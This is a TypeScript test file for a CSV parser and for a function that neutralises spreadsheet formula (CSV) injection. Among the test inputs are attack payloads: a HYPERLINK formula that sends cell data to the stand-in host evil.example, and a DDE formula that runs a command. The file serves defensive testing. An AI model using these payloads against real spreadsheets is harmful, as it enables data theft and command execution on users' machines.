import { describe, expect, it } from "vitest";
import { CsvParser, csvLine, spreadsheetSafeCell } from "./csv";

function parseAll(text: string, chunkSize = 3) {
  const parser = new CsvParser();
  const records = [];
  for (let i = 0; i < text.length; i += chunkSize) records.push(...parser.push(text.slice(i, i + chunkSize)));
  records.push(...parser.end());
  return records;
}

describe("CsvParser", () => {
  it("parses quotes, escaped quotes, commas and newlines inside fields, CRLF, across chunk borders", () => {
    const text = 'id,text\r\n1,"Hello, ""world"""\r\n2,"two\nlines"\n3,plain';
    for (const size of [1, 2, 3, 7, 100]) {
      expect(parseAll(text, size)).toEqual([
        { line: 1, fields: ["id", "text"] },
        { line: 2, fields: ["1", 'Hello, "world"'] },
        { line: 3, fields: ["2", "two\nlines"] },
        { line: 5, fields: ["3", "plain"] },
      ]);
    }
  });

  it("skips blank lines and names the line of a broken quote", () => {
    expect(parseAll("a,b\n\n1,2\n").map((r) => r.fields)).toEqual([
      ["a", "b"],
      ["1", "2"],
    ]);
    expect(() => parseAll('a,b\n1,"open')).toThrow("line 2: unterminated quoted field");
    expect(() => parseAll('a,b\n1,x"y\n')).toThrow("line 2: unexpected quote");
  });
});

describe("spreadsheet-safe CSV (OWASP CSV injection)", () => {
  it("puts a single quote before a cell that a spreadsheet would read as a formula", () => {
    const formulas = [
      '=HYPERLINK("http://evil.example/?x="&A1,"click")',
      "=cmd|' /C calc'!A0",
      "+1+1",
      "-2+3",
      "-",
      "@SUM(A1:A9)",
      "\t=1+1",
      "\r=1+1",
    ];
    for (const cell of formulas) expect(spreadsheetSafeCell(cell)).toBe(`'${cell}`);
  });

  it("leaves plain numbers and every other text as it is", () => {
    for (const cell of ["-1.5", "+3", "-0", "2e-4", "-.5", "1.", "42", "", "a=b", " =1", "'=1", "x-y", "€5"])
      expect(spreadsheetSafeCell(cell)).toBe(cell);
  });

  it("csvLine writes safe cells, quoted where RFC 4180 needs it, and they parse back with the quote", () => {
    const line = csvLine(["=1+1", "-1.5", '@x,"y"', "\r=2", "ok"]);
    expect(line).toBe(`'=1+1,-1.5,"'@x,""y""","'\r=2",ok\n`);
    expect(parseAll(line).map((r) => r.fields)).toEqual([["'=1+1", "-1.5", `'@x,"y"`, "'\r=2", "ok"]]);
  });
});
